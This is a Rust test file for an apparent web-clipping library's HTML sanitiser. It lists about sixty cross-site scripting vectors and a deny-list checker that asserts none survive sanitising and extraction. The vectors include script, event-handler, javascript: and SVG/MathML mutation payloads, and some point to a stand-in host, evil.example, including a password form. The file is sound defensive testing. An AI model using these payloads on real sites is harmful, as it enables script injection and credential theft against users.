//! A clipped page is hostile input: every vector below, placed inside an article, must come out
//! of extraction and sanitising with nothing that could run, load or navigate.

use tidings_core::extract::{extract, sanitize_html};
use url::Url;

/// Script in its disguises, event handlers, dangerous URL schemes, SVG/MathML tricks, `<base>`,
/// `<meta refresh>`, CSS, `srcdoc`, forms, and markup that re-parses into script.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=\"module\">import('//evil.example')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<img src=x onerror\n=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=\"x\"></applet>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</p>",
    "<form action=\"https://evil.example\"><input name=p type=password><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</option></select>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<td background=\"javascript:alert(1)\">x</td>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" target=\"_top\">x</a>",
    "<div id=\"x\" data-x=\"1\" onmouseover=\"alert(1)\">x</div>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<portal src=\"https://evil.example\"></portal>",
    "<a href=\"https://ok.example\" ping=\"https://evil.example/track\">x</a>",
];

/// What must never survive: anything that runs, loads a frame or a script, or navigates.
fn dangerous(html: &str) -> Option<&'static str> {
    let lower = html.to_ascii_lowercase();
    const BAD: &[&str] = &[
        "<script",
        "javascript:",
        "vbscript:",
        "data:text",
        "<iframe",
        "<frame",
        "<object",
        "<embed",
        "<applet",
        "<base",
        "<meta",
        "<link",
        "<style",
        "style=",
        "srcdoc",
        "<form",
        "<input",
        "<button",
        "<select",
        "<textarea",
        "<svg",
        "<math",
        "<template",
        "<portal",
        "formaction",
        "ping=",
        "expression(",
        "<isindex",
    ];
    if let Some(bad) = BAD.iter().find(|b| lower.contains(*b)) {
        return Some(bad);
    }
    // Event-handler attributes: ` on…=` inside a tag.
    let mut rest = lower.as_str();
    while let Some(open) = rest.find('<') {
        let tag_end = rest[open..].find('>').map_or(rest.len(), |e| open + e);
        let tag = &rest[open..tag_end];
        if tag
            .split(|c: char| c.is_whitespace() || c == '/')
            .skip(1)
            .any(|attr| attr.starts_with("on") && attr.contains('='))
        {
            return Some("an on… event handler");
        }
        rest = &rest[tag_end.min(rest.len())..];
        if rest.len() <= 1 {
            break;
        }
        rest = &rest[1..];
    }
    None
}

#[test]
fn at_least_sixty_vectors_are_tried() {
    assert!(VECTORS.len() >= 60, "{}", VECTORS.len());
}

#[test]
fn the_sanitiser_leaves_nothing_that_runs() {
    let base = Url::parse("https://news.example/post").unwrap();
    for vector in VECTORS {
        let clean = sanitize_html(&format!("<p>before</p>{vector}<p>after</p>"), &base);
        assert_eq!(
            dangerous(&clean),
            None,
            "vector {vector:?} became {clean:?}"
        );
        assert!(
            clean.contains("before"),
            "vector {vector:?} swallowed the text: {clean:?}"
        );
    }
}

#[test]
fn a_clipped_article_full_of_vectors_is_stored_harmless() {
    let paragraph = "<p>This paragraph is ordinary article prose, long enough for the extractor to keep it as content.</p>";
    let body: String = VECTORS.iter().map(|v| format!("{paragraph}{v}")).collect();
    let page = format!("<html><head><title>Hostile</title></head><body><article><h1>Hostile</h1>{body}</article></body></html>");
    let extracted = extract(&page, &Url::parse("https://news.example/post").unwrap()).unwrap();
    assert_eq!(
        dangerous(&extracted.content_html),
        None,
        "{}",
        extracted.content_html
    );
    assert!(extracted.text.contains("ordinary article prose"));
}

#[test]
fn the_checker_itself_sees_danger() {
    for bad in [
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:x\">",
        "<script>",
        "<p style=\"x\">",
    ] {
        assert!(dangerous(bad).is_some(), "{bad}");
    }
    assert_eq!(dangerous("<p class=\"language-rust\">x</p><a href=\"https://ok.example\" rel=\"noopener noreferrer\">y</a>"), None);
}
